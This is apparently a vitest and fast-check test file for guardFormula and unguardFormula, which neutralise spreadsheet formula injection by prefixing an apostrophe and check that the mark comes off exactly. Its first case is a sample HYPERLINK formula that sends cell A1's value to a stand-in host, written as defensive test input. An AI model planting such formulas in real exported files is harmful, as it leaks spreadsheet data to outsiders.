import fc from 'fast-check'
import { expect, test } from 'vitest'
import { guardFormula, unguardFormula } from './guard-formula.ts'

test.each([
  ['=HYPERLINK("http://x.test/?"&A1,"open")', `'=HYPERLINK("http://x.test/?"&A1,"open")`],
  ['@SUM(1+1)', "'@SUM(1+1)"],
  ['-2+3', "'-2+3"],
  ['\t=1+1', "'\t=1+1"],
  ['＝1+1', "'＝1+1"],
  ["'=1", "''=1"],
  ['+49 30 1234', '+49 30 1234'],
  ['-1,234.50', '-1,234.50'],
  ["O'Brien", "O'Brien"],
  ["'t Hooft", "'t Hooft"],
])('%j is written as %j (O-29)', (text, written) => {
  expect(guardFormula(text)).toBe(written)
})

test('the mark that was put on comes off, and no other (O-29)', () => {
  const odd = fc.stringMatching(/^'{0,2}[=+@\t-]?[ -~]{0,6}$/)
  fc.assert(
    fc.property(odd, (text) => {
      const written = guardFormula(text)
      expect(unguardFormula(written) ?? written).toBe(text)
    }),
  )
})
